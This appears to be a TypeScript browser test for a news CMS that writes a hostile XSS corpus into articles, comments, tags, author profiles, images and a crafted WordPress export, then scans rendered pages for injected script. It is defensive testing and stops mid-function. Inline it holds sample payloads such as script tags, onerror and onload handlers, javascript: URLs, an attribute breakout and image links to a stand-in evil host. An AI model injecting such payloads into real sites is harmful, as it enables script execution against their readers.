/**
 * The hostile corpus (./hostile-corpus) written into every place a journalist, a reader or an
 * import can write — article fields and every kind of body block, tags, sections, author
 * profiles, images, comments, correction notes, an autosave, a WordPress export — through the
 * project's own services and admin routes, then every kind of page that shows it loaded in
 * headless chromium, twice: with the strict CSP, and in a context that bypasses it (so only the
 * markup stands between a payload and the reader).
 *
 * A page fails on: a dialog; a request to any host but 127.0.0.1; an element with an `on…`
 * attribute; a URL attribute starting with javascript:, vbscript: or data:text/html; a <script>
 * that is not one of the site's own external scripts (JSON-LD data blocks must parse); an iframe,
 * object, embed, frame, base or meta refresh; a form posting to another site; a 5xx answer.
 * Findings are collected as "page [mode]: what" and compared with [] at the end, so a failure
 * names them all.
 *
 * Remote images in stored article HTML (the defect the remote-images change fixed) are collected
 * apart, both as kept in the body and as requested, and checked by a test of their own.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import type { Browser, BrowserContext, Page, Request } from 'playwright-core';
import sharp from 'sharp';
import { DomUtils, parseDocument } from 'htmlparser2';
import { browserAvailable, launchBrowser } from '../helpers/browser.js';
import { DIALECTS, freshDb, type DialectName, type TestDb } from '../helpers/db.js';
import { adminApp, TEST_SCRYPT } from '../helpers/admin.js';
import { Agent, PASSWORD } from '../helpers/agent.js';
import { Clock, NOW } from '../helpers/clock.js';
import { fieldValue, formFields } from '../helpers/form.js';
import { freePort } from '../helpers/postgres.js';
import { logIn } from '../web/admin/browser-helpers.js';
import { upload } from '../web/admin/media/media-helpers.js';
import { EVIL_HOST, HOSTILE, type HostileFamily } from './hostile-corpus.js';
import { slugify } from '../../src/modules/article/article.js';
import type { ArticleDocument, Block, QuoteCard } from '../../src/modules/article/document.js';
import { a as link, doc, h, p, quote, text } from '../../src/modules/article/document.js';
import { articleForEditing, articleHistory, saveArticle, type Editor } from '../../src/modules/article/article-editing.service.js';
import { insertAuthor } from '../../src/modules/author/author.repository.js';
import { createCategory } from '../../src/modules/taxonomy/category.service.js';
import { renameTag } from '../../src/modules/taxonomy/tag.service.js';
import { createUser } from '../../src/modules/user/user.service.js';
import { cliActor, type Actor, type User } from '../../src/modules/user/user.js';
import { ROLES } from '../../src/modules/user/permissions.js';
import { saveCommentSettings } from '../../src/modules/comment/comment-settings.js';
import { addCommentRule } from '../../src/modules/comment/comment-rules.js';
import { createPreviewLink } from '../../src/modules/preview/preview.service.js';
import { importWordPress } from '../../src/import/wordpress/import-wordpress.js';

const VALUES: readonly string[] = HOSTILE.map((x) => x.value);
/** One payload of each family: what the search box and the filters are fed. */
const ONE_PER_FAMILY: readonly string[] = [...new Map(HOSTILE.map((x) => [x.family, x.value] as [HostileFamily, string])).values()].map((v) => v.slice(0, 150));

/** Articles written through the service whose bodies carry the payloads (and whose pages are looked at). */
const SERVICE_BODIES = 5;

/** What is typed into the search box (its echo in the field, the heading and the title). */
const SEARCHED: readonly string[] = HOSTILE.filter((x) => ['script', 'breakout', 'url-scheme', 'bidi-zero-width', 'template'].includes(x.family))
  .filter((x, i, all) => all.findIndex((y) => y.family === x.family) === i)
  .map((x) => x.value);

type Mode = 'csp' | 'bypass-csp';
const MODES: readonly Mode[] = ['csp', 'bypass-csp'];

/** What one page load found; `page` is its path and `mode` the context it was loaded in. */
interface Finding {
  page: string;
  mode: Mode;
  what: string;
}
const show = (f: Finding): string => `${f.page} [${f.mode}]: ${f.what}`;

// ---------------------------------------------------------------------------------------------
// Shaping the corpus to each field's limits
// ---------------------------------------------------------------------------------------------

/** Payloads joined (" · ") into strings of at most `max` characters; longer payloads are left out. */
function chunks(values: readonly string[], max: number): string[] {
  const out: string[] = [];
  let cur = '';
  for (const v of values) {
    if (v.length > max || !v.trim()) continue;
    const next = cur ? `${cur} · ${v}` : v;
    if (next.length > max) {
      out.push(cur);
      cur = v;
    } else cur = next;
  }
  if (cur) out.push(cur);
  return out;
}

/** Without control characters (fields that refuse them: image texts, notes, names). */
const noControls = (s: string): string => s.replace(/[\p{Cc}]+/gu, ' ');
/** What a comment or rule name keeps: no control characters, bidi overrides or isolates. */
const nameSafe = (s: string): string =>
  noControls(s)
    .replace(/[\u202A-\u202E\u2066-\u2069]/g, '')
    .replace(/\s+/g, ' ')
    .trim();
/** Characters XML 1.0 cannot carry at all (a WXR file is XML). */
const xmlText = (s: string): string =>
  s
    .replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/g, '')
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;');

/** Every payload in every kind of block the editor sends; figures use `media` in turn. */
function everyBlock(values: readonly string[], media: readonly number[]): ArticleDocument {
  const fits = (max: number) => values.filter((v) => v.length <= max && v.trim());
  const blocks: Block[] = [];
  for (const v of values) blocks.push(p(v));
  for (const [i, v] of values.entries()) blocks.push(h(([2, 3, 4] as const)[i % 3]!, v));
  for (const v of fits(500)) blocks.push(quote(v, v));
  for (const v of fits(200))
    blocks.push({
      type: 'quoteCard',
      attrs: {
        author: v,
        handle: v,
        date: '2026-11-19T10:00:00Z',
        text: v,
        url: `https://social.example/@desk/1?${v}`.slice(0, 2000),
        network: v.slice(0, 60),
      },
    });
  for (const [i, v] of fits(300).entries())
    blocks.push({ type: 'figure', attrs: { mediaId: media[i % media.length]!, alt: v, caption: v, credit: v, align: 'center' } });
  blocks.push({ type: 'bulletList', content: fits(2000).map((v) => ({ type: 'listItem', content: [p(v)] })) });
  blocks.push({ type: 'orderedList', content: fits(2000).map((v) => ({ type: 'listItem', content: [p(text(v, [{ type: 'bold' }]))] })) });
  // Links the editor accepts (http/https), whose addresses still carry a payload.
  blocks.push(p(...fits(500).map((v) => link(v, `https://social.example/?q=${v}`))));
  for (const v of values) blocks.push({ type: 'html', attrs: { html: v } });
  return doc(...blocks);
}

/**
 * A body the editor's input check would refuse, written through the service as a script or a
 * future API could: links and quote-card addresses that are the payloads themselves.
 */
function uncheckedBlocks(values: readonly string[], media: readonly number[]): ArticleDocument {
  const blocks: Block[] = [];
  for (const v of values) blocks.push(p(link(`link: ${v}`, v)), p(v), { type: 'html', attrs: { html: v } });
  for (const v of values.filter((x) => x.length <= 2000)) {
    const card: QuoteCard = { type: 'quoteCard', attrs: { author: v, handle: v, date: 'not a date', text: v, url: v, network: v } };
    blocks.push(card, { type: 'figure', attrs: { mediaId: media[0]!, alt: v, caption: v, credit: v } });
  }
  return doc(...blocks);
}

/** A small WordPress export with the payloads in titles, content, excerpts, terms, authors and comments. */
function hostileWxr(values: readonly string[]): string {
  const short = values.filter((v) => v.length <= 180 && v.trim());
  const cats = short
    .slice(0, 12)
    .map(
      (v, i) =>
        `<wp:category><wp:term_id>${i + 1}</wp:term_id><wp:category_nicename>wp-section-${i}</wp:category_nicename><wp:category_parent>${i > 5 ? 'wp-section-0' : ''}</wp:category_parent><wp:cat_name>${xmlText(v)}</wp:cat_name><wp:category_description>${xmlText(v)}</wp:category_description></wp:category>`,
    )
    .join('\n');
  const tags = short
    .slice(12, 30)
    .map(
      (v, i) =>
        `<wp:tag><wp:term_id>${100 + i}</wp:term_id><wp:tag_slug>wp-topic-${i}</wp:tag_slug><wp:tag_name>${xmlText(v)}</wp:tag_name><wp:tag_description>${xmlText(v)}</wp:tag_description></wp:tag>`,
    )
    .join('\n');
  // Block-comment attributes the way WordPress writes them: JSON with "--", "<" and ">" escaped.
  const attrs = (o: unknown) => JSON.stringify(o).replace(/--/g, '\\u002d\\u002d').replace(/</g, '\\u003c').replace(/>/g, '\\u003e');
  const classic = [
    ...values,
    ...short.map((v) => `[caption id="" align="alignleft" width="300"]<img src="https://${EVIL_HOST}/wp-content/uploads/c.jpg" alt="${v}"> ${v}[/caption]`),
    `[embed]javascript:alert(1)[/embed]`,
    `[gallery ids="1,2" link="javascript:alert(1)"]`,
    `[audio src="javascript:alert(1)"]`,
  ].join('\n\n');
  const blocks = [
    ...short.map((v) => `<!-- wp:paragraph --><p>${v}</p><!-- /wp:paragraph -->`),
    ...short.map((v) => `<!-- wp:html -->${v}<!-- /wp:html -->`),
    ...short.map((v) => `<!-- wp:quote --><blockquote class="wp-block-quote"><p>${v}</p><cite>${v}</cite></blockquote><!-- /wp:quote -->`),
    ...short.map(
      (v) =>
        `<!-- wp:image ${attrs({ id: 999, alt: v })} --><figure class="wp-block-image"><img src="https://${EVIL_HOST}/pixel.gif" alt="${v.replace(/"/g, '&quot;')}"/><figcaption>${v}</figcaption></figure><!-- /wp:image -->`,
    ),
    ...short
      .slice(0, 20)
      .map(
        (v) =>
          `<!-- wp:embed ${attrs({ url: `https://twitter.com/desk/status/1?${v}`, type: 'rich', providerNameSlug: 'twitter' })} --><figure class="wp-block-embed"><div class="wp-block-embed__wrapper">https://twitter.com/desk/status/1?${v}</div></figure><!-- /wp:embed -->`,
      ),
    `<!-- wp:embed ${attrs({ url: 'javascript:alert(1)', providerNameSlug: 'twitter' })} --><figure class="wp-block-embed"><div class="wp-block-embed__wrapper">javascript:alert(1)</div></figure><!-- /wp:embed -->`,
  ].join('\n\n');
  const comments = (postId: number) =>
    short
      .map((v, k) => {
        const id = postId * 1000 + k + 1;
        const url = [`javascript:alert(1)`, `https://${EVIL_HOST}/"onmouseover="alert(1)`, `https://example.org/?q=${v}`][k % 3]!;
        const approved = ['1', '1', '0', 'spam'][k % 4]!;
        return `<wp:comment><wp:comment_id>${id}</wp:comment_id><wp:comment_author>${xmlText(v)}</wp:comment_author><wp:comment_author_email>r${k}@example.org</wp:comment_author_email><wp:comment_author_url>${xmlText(url)}</wp:comment_author_url><wp:comment_author_IP>192.0.2.${k % 250}</wp:comment_author_IP><wp:comment_date>2020-01-02 10:00:00</wp:comment_date><wp:comment_date_gmt>2020-01-02 10:00:00</wp:comment_date_gmt><wp:comment_content>${xmlText(v)}</wp:comment_content><wp:comment_approved>${approved}</wp:comment_approved><wp:comment_type>comment</wp:comment_type><wp:comment_parent>${k % 5 === 4 ? id - 1 : 0}</wp:comment_parent><wp:comment_user_id>0</wp:comment_user_id></wp:comment>`;
      })
      .join('');
  const terms = [
    ...short.slice(0, 12).map((v, i) => `<category domain="category" nicename="wp-section-${i}">${xmlText(v)}</category>`),
    ...short.slice(12, 30).map((v, i) => `<category domain="post_tag" nicename="wp-topic-${i}">${xmlText(v)}</category>`),
    `<category domain="post_tag" nicename="${xmlText('"><script>alert(1)</script>')}">${xmlText('<img src=x onerror=alert(1)>')}</category>`,
  ].join('');
  const item = (o: {
    id: number;
    type: 'post' | 'page';
    name: string;
    title: string;
    content: string;
    excerpt: string;
    creator: string;
    withComments: boolean;
  }) =>
    `<item><title>${xmlText(o.title)}</title><link>https://old.example/2020/01/02/${xmlText(o.name)}/</link><pubDate>Thu, 02 Jan 2020 09:00:00 +0000</pubDate><dc:creator>${xmlText(o.creator)}</dc:creator><guid isPermaLink="false">https://old.example/?p=${o.id}</guid><description></description>
<content:encoded>${xmlText(o.content)}</content:encoded><excerpt:encoded>${xmlText(o.excerpt)}</excerpt:encoded>
<wp:post_id>${o.id}</wp:post_id><wp:post_date>2020-01-02 09:00:00</wp:post_date><wp:post_date_gmt>2020-01-02 09:00:00</wp:post_date_gmt><wp:comment_status>open</wp:comment_status><wp:ping_status>open</wp:ping_status><wp:post_name>${xmlText(o.name)}</wp:post_name><wp:status>publish</wp:status><wp:post_parent>0</wp:post_parent><wp:menu_order>0</wp:menu_order><wp:post_type>${o.type}</wp:post_type><wp:post_password></wp:post_password><wp:is_sticky>0</wp:is_sticky>
${terms}${o.withComments ? comments(o.id) : ''}</item>`;
  const titles = chunks(values, 300);
  return `<?xml version="1.0" encoding="UTF-8" ?>
<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:wfw="http://wellformedweb.org/CommentAPI/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.2/">
<channel>
<title>${xmlText(values[0]!)}</title>
<link>https://old.example</link>
<description>${xmlText(values[1]!)}</description>
<language>en-GB</language>
<wp:wxr_version>1.2</wp:wxr_version>
<wp:base_site_url>https://old.example</wp:base_site_url>
<wp:base_blog_url>https://old.example</wp:base_blog_url>
<wp:author><wp:author_id>1</wp:author_id><wp:author_login>wolf</wp:author_login><wp:author_email>wolf@old.example</wp:author_email><wp:author_display_name>${xmlText('"><svg onload=alert(1)> Wolf \u202Eflow')}</wp:author_display_name></wp:author>
<wp:author><wp:author_id>2</wp:author_id><wp:author_login>${xmlText('<script>alert(1)</script>')}</wp:author_login><wp:author_email>fox@old.example</wp:author_email><wp:author_display_name>${xmlText("{{constructor.constructor('alert(1)')()}}")}</wp:author_display_name></wp:author>
${cats}
${tags}
${item({ id: 11, type: 'post', name: 'imported-classic', title: titles[0]!, content: classic, excerpt: titles[1] ?? '', creator: 'wolf', withComments: true })}
${item({ id: 12, type: 'post', name: 'imported-blocks', title: titles[2] ?? 'x', content: blocks, excerpt: titles[3] ?? '', creator: '<script>alert(1)</script>', withComments: true })}
${item({ id: 13, type: 'post', name: '"><script>alert(1)</script>', title: titles[4] ?? 'x', content: values.join('\n'), excerpt: '', creator: 'wolf', withComments: false })}
${item({ id: 14, type: 'page', name: 'imported-page', title: titles[5] ?? 'x', content: classic, excerpt: titles[6] ?? '', creator: 'wolf', withComments: false })}
</channel>
</rss>
`;
}

// ---------------------------------------------------------------------------------------------
// Writing the corpus everywhere
// ---------------------------------------------------------------------------------------------

interface Seeded {
  owner: User;
  /** Article written through the admin form (every block kind), and its id. */
  everything: { id: number; slug: string };
  /** Articles written through the article-editing service (unchecked bodies). */
  serviceSlugs: string[];
  serviceIds: number[];
  draftId: number;
  previewToken: string;
  importedIds: number[];
  importedSlugs: string[];
  mediaIds: number[];
  categoryPaths: string[];
  categoryIds: number[];
  tagSlugs: string[];
  tagIds: number[];
  authorSlugs: string[];
  commentIds: number[];
  correctionId: number;
  revisionId: number;
  /** How many writes each field took, and how many the rules refused (with a 4xx, as they should). */
  accepted: Record<string, number>;
  refused: Record<string, number>;
}

async function seed(t: TestDb, app: FastifyInstance, base: string, clock: Clock): Promise<Seeded> {
  const db = t.handle.db;
  const accepted: Record<string, number> = {};
  const refused: Record<string, number> = {};
  const count = (what: string, ok: boolean) => {
    const m = ok ? accepted : refused;
    m[what] = (m[what] ?? 0) + 1;
  };
  const now = clock.now();

  // The owner's own name is hostile where the rules allow (no < > or control characters).
  const owner = await createUser(db, { email: 'owner@example.com', name: `Owner " autofocus onfocus="alert(1)`, role: 'owner', password: PASSWORD }, cliActor, {
    now,
    scrypt: TEST_SCRYPT,
  });
  const actor: Actor = { id: owner.id, label: owner.email, ip: '127.0.0.1' };
  const editor: Editor = { user: owner, ip: '127.0.0.1' };
  const agent = new Agent(app);
  const login = await agent.login(owner.email);
  if (login.statusCode !== 303) throw new Error(`owner login failed: ${login.statusCode}`);

  // Users: every payload as a name; the rules refuse markup and control characters (USER_INVALID).
  for (const [i, v] of VALUES.entries()) {
    try {
      await createUser(db, { email: `user${i}@example.com`, name: v, role: ROLES[1 + (i % 3)]!, password: PASSWORD }, actor, { now, scrypt: TEST_SCRYPT });
      count('user name', true);
    } catch (err) {
      if ((err as { code?: string }).code !== 'USER_INVALID') throw err;
      count('user name', false);
    }
  }

  // Images, uploaded through the admin's upload form: payloads as file name, alt text, caption, credit.
  const png = await sharp({ create: { width: 48, height: 32, channels: 3, background: '#7a3b3b' } })
    .png()
    .toBuffer();
  const alts = chunks(VALUES.map(noControls), 500);
  const captions = chunks(VALUES.map(noControls), 1000);
  const credits = chunks(VALUES.map(noControls), 200);
  const names = VALUES.filter((v) => v.length < 120 && !/["\r\n\\]/.test(v));
  const mediaIds: number[] = [];
  for (let i = 0; i < Math.max(alts.length, credits.length, 6); i++) {
    const res = await upload(app, agent, [{ name: `${names[i % names.length]}.png`, type: 'image/png', bytes: png }], {
      fields: { alt: alts[i % alts.length]!, caption: captions[i % captions.length]!, credit: credits[i % credits.length]! },
    });
    if (res.statusCode !== 303) throw new Error(`upload ${i}: ${res.statusCode} ${res.body.slice(0, 300)}`);
    mediaIds.push(Number(/\/admin\/media\/(\d+)/.exec(String(res.headers.location))![1]));
    count('image', true);
  }
  // And the texts of one image edited through its form.
  const edited = await agent.post(
    `/admin/media/${mediaIds[0]}`,
    { alt: alts.at(-1)!, caption: captions.at(-1)!, credit: credits.at(-1)! },
    `/admin/media/${mediaIds[0]}`,
  );
  if (edited.statusCode !== 303) throw new Error(`media edit: ${edited.statusCode}`);

  // Sections: a few at the top (in the navigation of every page), the rest below them.
  const categoryIds: number[] = [];
  const categoryPaths: string[] = [];
  const roots: { id: number; slug: string }[] = [];
  for (const [i, v] of VALUES.entries()) {
    const parent = i < 8 ? undefined : roots[i % roots.length]!;
    try {
      const slug = `section-${i}`;
      const r = await createCategory(db, { name: v, slug, parentId: parent?.id ?? null, description: v }, actor, now);
      categoryIds.push(r.id);
      categoryPaths.push(parent ? `/category/${parent.slug}/${slug}/` : `/category/${slug}/`);
      if (!parent) roots.push({ id: r.id, slug });
      count('category', true);
    } catch (err) {
      if ((err as { code?: string }).code !== 'CATEGORY_INVALID') throw err;
      count('category', false);
    }
  }

  // Author profiles (no service edits a profile's title or bio: the repository, as the importers use it).
  const authorIds: number[] = [];
  const authorSlugs: string[] = [];
  for (const [i, v] of VALUES.entries()) {
    const slug = `writer-${i}`;
    authorIds.push(
      await insertAuthor(db, {
        slug,
        name: v.slice(0, 200).trim() || 'x',
        role_title: v.slice(0, 200),
        bio: v,
        avatar_media_id: mediaIds[i % mediaIds.length]!,
        created_at: now.toISOString(),
      }),
    );
    authorSlugs.push(slug);
  }

  const tagNames = VALUES.filter((v) => v.length <= 100 && !v.includes(',') && slugify(v) !== '').map((v) => v.trim().replace(/\s+/g, ' '));
  const titles = chunks(VALUES, 500);
  const excerpts = chunks(VALUES, 2000);
  const seoTitles = chunks(VALUES, 200);

  // The "everything" article, through the admin's article form (the editor's JSON, as the editor sends it).
  const form = {
    title: titles[0]!,
    slug: 'everything',
    excerpt: excerpts[0]!,
    body_format: 'json',
    body_json: JSON.stringify(everyBlock(VALUES, mediaIds)),
    body_text: '',
    language: 'en',
    category: categoryIds.slice(0, 50).map(String),
    primary_category: String(categoryIds[0]),
    // The most bylines the form takes (MAX_BYLINES): saved again from its own edit form below.
    author: authorIds.slice(0, 20).map(String),
    tags: tagNames.slice(0, 30).join(', '),
    featured_media_id: String(mediaIds[1]),
    seo_title: seoTitles[0]!,
    seo_description: chunks(VALUES, 500)[1]!,
    comment_status: 'open',
    intent: 'publish',
    publish_at: '',
    updated_at: '',
  };
  const created = await agent.post('/admin/articles', form, '/admin/articles/new');
  if (created.statusCode !== 303) throw new Error(`article form: ${created.statusCode} ${created.body.slice(0, 2000)}`);
  const everythingId = Number(/\/admin\/articles\/(\d+)/.exec(String(created.headers.location))![1]);
  count('article (admin form)', true);

  // Saved again from its own edit form as the browser would send it unchanged but for the headline
  // (a second revision, so the comparison screen has something to compare).
  clock.advance(60_000);
  const editPage = await agent.get(`/admin/articles/${everythingId}`);
  const again = formFields(editPage.body, `/admin/articles/${everythingId}`, { name: 'intent', value: 'save' });
  const resaved = await agent.postRaw(`/admin/articles/${everythingId}`, { ...again, title: titles[1] ?? 'x' });
  if (resaved.statusCode !== 303)
    throw new Error(
      `article re-save: ${resaved.statusCode} ${/error-summary__list">([\s\S]*?)<\/ul>/.exec(resaved.body)?.[1]} body_format=${String(again.body_format)}`,
    );
  count('article (admin form)', true);

  // An autosave of other hostile content, offered back when the article is opened.
  clock.advance(60_000);
  const updatedAt = fieldValue((await agent.get(`/admin/articles/${everythingId}`)).body, 'updated_at')!;
  const autosave = await app.inject({
    method: 'POST',
    url: `/admin/articles/${everythingId}/autosave`,
    payload: JSON.stringify({
      title: titles.at(-1)!,
      excerpt: excerpts.at(-1)!,
      body_json: JSON.stringify(doc(...VALUES.map((v) => p(v)))),
      updated_at: updatedAt,
    }),
    headers: { 'content-type': 'application/json', 'csrf-token': await agent.csrf(), cookie: agent.cookie },
  });
  if (autosave.statusCode !== 200) throw new Error(`autosave: ${autosave.statusCode} ${autosave.body}`);

  // Correction notes through the article's correction form.
  const notes = chunks(VALUES.map(noControls), 2000);
  for (const [i, note] of notes.entries()) {
    const res = await agent.post(
      `/admin/articles/${everythingId}/corrections`,
      { kind: i % 2 ? 'update' : 'correction', body: note },
      `/admin/articles/${everythingId}`,
    );
    if (res.statusCode !== 303) throw new Error(`correction: ${res.statusCode} ${res.body.slice(0, 500)}`);
    count('correction note', true);
  }
  const correctionId = Number(/\/admin\/articles\/\d+\/corrections\/(\d+)/.exec((await agent.get(`/admin/articles/${everythingId}`)).body)?.[1] ?? Number.NaN);

  // Articles through the article-editing service, with bodies the editor's input check would refuse.
  // The first SERVICE_BODIES carry the payloads in their bodies (every payload in one of them); the
  // others carry their headline, shown in the lists.
  const serviceIds: number[] = [];
  const serviceSlugs: string[] = [];
  const serviceInputs: Parameters<typeof saveArticle>[1][] = [];
  for (const [j, title] of titles.slice(1).entries()) {
    clock.advance(1000);
    const slug = `${slugify(title).slice(0, 120) || 'story'}-${j}`;
    const cmd: Parameters<typeof saveArticle>[1] = {
      input: {
        type: 'post',
        slug,
        title,
        excerpt: excerpts[(j + 1) % excerpts.length]!,
        body:
          j < SERVICE_BODIES
            ? uncheckedBlocks(
                VALUES.filter((_, i) => i % SERVICE_BODIES === j),
                mediaIds,
              )
            : doc(p(title)),
        categoryIds: categoryIds.slice(50 + j * 4, 54 + j * 4),
        authorIds: authorIds.slice(20 + j * 8, 28 + j * 8),
        featuredMediaId: mediaIds[j % mediaIds.length]!,
        seoTitle: seoTitles[(j + 1) % seoTitles.length]!,
        seoDescription: title,
        commentStatus: 'open',
      },
      tagNames: tagNames.slice(30 + j * 6, 36 + j * 6),
      intent: 'publish',
    };
    const w = await saveArticle(db, cmd, editor, clock.now());
    serviceInputs.push(cmd);
    serviceIds.push(w.id);
    serviceSlugs.push(slug);
    count('article (service)', true);
  }

  // The first saved again with another body, so that the revision comparison has hostile text on both sides.
  clock.advance(60_000);
  const first = (await articleForEditing(db, owner, serviceIds[0]!)).article.post;
  const cmd0 = serviceInputs[0]!;
  await saveArticle(
    db,
    {
      ...cmd0,
      id: first.id,
      expectedUpdatedAt: first.updated_at,
      input: {
        ...cmd0.input,
        title: titles.at(-1)!,
        body: uncheckedBlocks(
          VALUES.filter((_, i) => i % SERVICE_BODIES === 1),
          mediaIds,
        ),
      },
    },
    editor,
    clock.now(),
  );
  const revisionId = (await articleHistory(db, first.id))[0]!.id;
  count('article (service)', true);

  // Slugs: a payload as a slug is refused (ARTICLE_INVALID); where slugify makes one of it, it is used above.
  for (const v of VALUES) {
    try {
      await saveArticle(db, { input: { slug: v, title: 'Slug probe', body: doc(p('x')) }, tagNames: [], intent: 'save' }, editor, clock.now());
      count('raw slug', true);
    } catch (err) {
      if ((err as { code?: string }).code !== 'ARTICLE_INVALID') throw err;
      count('raw slug', false);
    }
  }

  // A draft with a preview link.
  const draft = await saveArticle(
    db,
    {
      input: {
        slug: 'hostile-draft',
        title: titles.at(-2) ?? 'x',
        excerpt: excerpts[0]!,
        body: uncheckedBlocks(
          VALUES.filter((v, i) => v.length <= 300 && i % 3 === 0),
          mediaIds,
        ),
      },
      tagNames: [],
      intent: 'save',
    },
    editor,
    clock.now(),
  );
  const preview = await createPreviewLink(db, draft.id, 7, owner.id, clock.now());

  // Tag descriptions (and one rename to a long payload) through the tag service.
  const tagRows = await db.selectFrom('tags').select(['id', 'slug', 'name']).orderBy('id').execute();
  for (const [i, tg] of tagRows.slice(0, 20).entries()) {
    await renameTag(
      db,
      tg.id,
      { name: i === 0 ? chunks(VALUES, 200)[0]! : tg.name, slug: tg.slug, description: VALUES[i % VALUES.length]!.slice(0, 2000) },
      actor,
      now,
    );
    count('tag description', true);
  }

  // Comments, through the public comment form: every payload as the text, and as the name where names allow it.
  await saveCommentSettings(db, {
    moderation: 'auto',
    spamThreshold: 1_000_000,
    ratePerIp: 1_000_000,
    ratePerEmail: 1_000_000,
    minFillSeconds: 0,
    maxLinks: 1000,
    perPage: 80,
  });
  const reader = new Agent(app, '203.0.113.9');
  const articleHtml = (await reader.get('/everything/')).body;
  const fields = { post_id: fieldValue(articleHtml, 'post_id')!, token: fieldValue(articleHtml, 'token')! };
  const commentIds: number[] = [];
  const comment = async (name: string, body: string): Promise<void> => {
    const res = await reader.request('POST', '/comments/', {
      payload: new URLSearchParams({ ...fields, name: name || 'Reader', email: '', body }).toString(),
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: base },
    });
    if (res.statusCode !== 303) throw new Error(`comment: ${res.statusCode} ${res.body.slice(0, 300)}`);
    commentIds.push(Number(/#comment-(\d+)$/.exec(String(res.headers.location))?.[1]));
    count('comment', true);
  };
  for (const v of VALUES) await comment(nameSafe(v).slice(0, 100).trim(), v.slice(0, 10_000));
  // A few held for moderation.
  await saveCommentSettings(db, { moderation: 'hold_all' });
  for (const v of ONE_PER_FAMILY.slice(0, 4)) await comment(nameSafe(v).slice(0, 100), v);
  // Staff replies and an edit, through the moderation screens.
  for (const [i, v] of ONE_PER_FAMILY.slice(4, 8).entries()) {
    const res = await agent.post(`/admin/comments/${commentIds[i]}/reply`, { body: v }, `/admin/comments/${commentIds[i]}`);
    if (res.statusCode !== 303) throw new Error(`staff reply: ${res.statusCode} ${res.body.slice(0, 300)}`);
  }
  const editedComment = await agent.post(
    `/admin/comments/${commentIds[1]}/edit`,
    { name: nameSafe(VALUES.find((v) => v.startsWith('"'))!), body: VALUES.join('\n').slice(0, 10_000) },
    `/admin/comments/${commentIds[1]}`,
  );
  if (editedComment.statusCode !== 303) throw new Error(`comment edit: ${editedComment.statusCode} ${editedComment.body.slice(0, 300)}`);
  // Block-list words and notes (the rules screen shows them).
  for (const v of VALUES.filter((x) => nameSafe(x).length >= 2 && nameSafe(x).length <= 100).slice(0, 12)) {
    await addCommentRule(db, { kind: 'word', list: 'block', value: nameSafe(v), note: nameSafe(v) }, actor, now);
    count('comment rule', true);
  }

  // A WordPress export through the importer.
  const wxr = path.join(t.dataDir, 'hostile.xml');
  fs.writeFileSync(wxr, hostileWxr(VALUES));
  const report = await importWordPress(db, {
    file: wxr,
    mediaRoot: path.join(t.dataDir, 'media'),
    ipHashKey: Buffer.alloc(32, 9),
    now: clock.now(),
    fullText: t.handle.dialect.fullText,
    related: false,
  });
  if (report.get('post').created < 3) throw new Error(`import: ${report.format()}`);
  accepted['imported post or page'] = report.get('post').created + report.get('page').created;
  // Reads only: where the importer put what it wrote.
  const imported = await db
    .selectFrom('posts')
    .select(['id', 'slug'])
    .where('published_at', '<', '2021-01-01')
    .where('status', '=', 'published')
    .orderBy('id')
    .execute();
  const importedTags = await db.selectFrom('tags').select('slug').where('slug', 'like', 'wp-topic-%').orderBy('id').limit(2).execute();

  return {
    owner,
    everything: { id: everythingId, slug: 'everything' },
    serviceIds,
    serviceSlugs,
    draftId: draft.id,
    previewToken: preview.token,
    importedIds: imported.map((r) => r.id),
    importedSlugs: imported.map((r) => r.slug),
    mediaIds,
    categoryPaths: [...categoryPaths, '/category/wp-section-0/', '/category/wp-section-0/wp-section-7/'],
    categoryIds,
    tagSlugs: [...tagRows.slice(0, 2).map((r) => r.slug), ...importedTags.slice(0, 1).map((r) => r.slug)],
    tagIds: tagRows.map((r) => r.id),
    authorSlugs,
    commentIds,
    correctionId,
    revisionId,
    accepted,
    refused,
  };
}

// ---------------------------------------------------------------------------------------------
// Looking at a page
// ---------------------------------------------------------------------------------------------

/** What the DOM holds that must not be there; runs in the page. Remote images inside article bodies are listed apart. */
function scanDom(): { problems: string[]; bodyImages: string[] } {
  const problems: string[] = [];
  const bodyImages: string[] = [];
  const here = location.origin;
  const URL_ATTRS = new Set([
    'href',
    'src',
    'action',
    'formaction',
    'xlink:href',
    'srcdoc',
    'data',
    'poster',
    'background',
    'cite',
    'ping',
    'lowsrc',
    'dynsrc',
  ]);
  const BAD_URL = /^(javascript:|vbscript:|data:text\/html)/;
  const clip = (s: string) => (s.length > 160 ? `${s.slice(0, 160)}…` : s);
  const tagOf = (el: Element) => clip(el.outerHTML.slice(0, el.outerHTML.indexOf('>') + 1 || 160));
  const absolute = (u: string): string | undefined => {
    try {
      return new URL(u, location.href).href;
    } catch {
      return undefined;
    }
  };
  const visit = (root: Document | ShadowRoot) => {
    for (const el of root.querySelectorAll('*')) {
      const name = el.localName;
      for (const attr of el.attributes) {
        const an = attr.name.toLowerCase();
        if (an.startsWith('on')) problems.push(`event handler attribute ${an} on ${tagOf(el)}`);
        if (URL_ATTRS.has(an)) {
          const v = attr.value
            .replace(/[\u0000-\u0020\u007f]/g, '')
            .trim()
            .toLowerCase();
          if (BAD_URL.test(v)) problems.push(`${an}="${clip(attr.value)}" on ${tagOf(el)}`);
        }
      }
      if (name === 'script') {
        const s = el as HTMLScriptElement;
        if (s.type === 'application/ld+json' && !s.hasAttribute('src')) {
          try {
            JSON.parse(s.textContent ?? '');
          } catch {
            problems.push(`JSON-LD that does not parse: ${clip(s.textContent ?? '')}`);
          }
        } else {
          const src = s.getAttribute('src');
          const url = src ? absolute(src) : undefined;
          const own = url !== undefined && new URL(url).origin === here && /^\/(admin\/)?assets\/[\w.-]+\.js$/.test(new URL(url).pathname);
          if (!own || (s.textContent ?? '').trim() !== '') problems.push(`script that is not the site's own: ${clip(s.outerHTML)}`);
        }
      }
      if (['iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'portal'].includes(name)) problems.push(`<${name}> element: ${tagOf(el)}`);
